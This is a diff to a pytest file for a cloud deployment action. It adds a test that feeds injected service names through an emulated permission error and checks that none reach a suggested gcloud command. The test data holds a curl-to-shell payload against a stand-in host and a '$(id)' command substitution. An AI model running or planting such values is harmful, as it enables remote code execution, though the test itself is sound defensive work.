@@ -7,8 +7,12 @@ import re
 from collections.abc import Iterable
 from pathlib import Path
 
+import grpc
 import pytest
+from google.rpc import error_details_pb2
 
+from emulator.errors import ApiError
+from emulator.faults import Fault
 from octue_action.project_setup import APIS
 from tests.gcloud import understands
 from tests.runs import Job, Run
@@ -57,6 +61,16 @@ def test_all_apis_that_are_off_are_named_at_once(job: Job) -> None:
 def test_an_api_that_is_not_needed_may_be_off(job: Job, api: str) -> None:
     switch_off(job, [api])
     assert job.deploy().code == 0
+
+
+@pytest.mark.parametrize("named", ["x.googleapis.com; curl -s evil.example | sh #", "$(id).googleapis.com"])
+def test_an_api_that_is_none_comes_into_no_command(job: Job, named: str) -> None:
+    info = error_details_pb2.ErrorInfo(reason="SERVICE_DISABLED", domain="googleapis.com", metadata={"service": named})
+    refusal = ApiError(grpc.StatusCode.PERMISSION_DENIED, "It is off.", info)
+    job.world.faults.add(Fault(method="*Services/GetService", error=refusal, times=None))
+    run = job.deploy()
+    assert run.code == 1
+    assert not [line for line in run.errors[0].splitlines() if line.startswith("gcloud") and named in line]
 
 
 @pytest.mark.witness
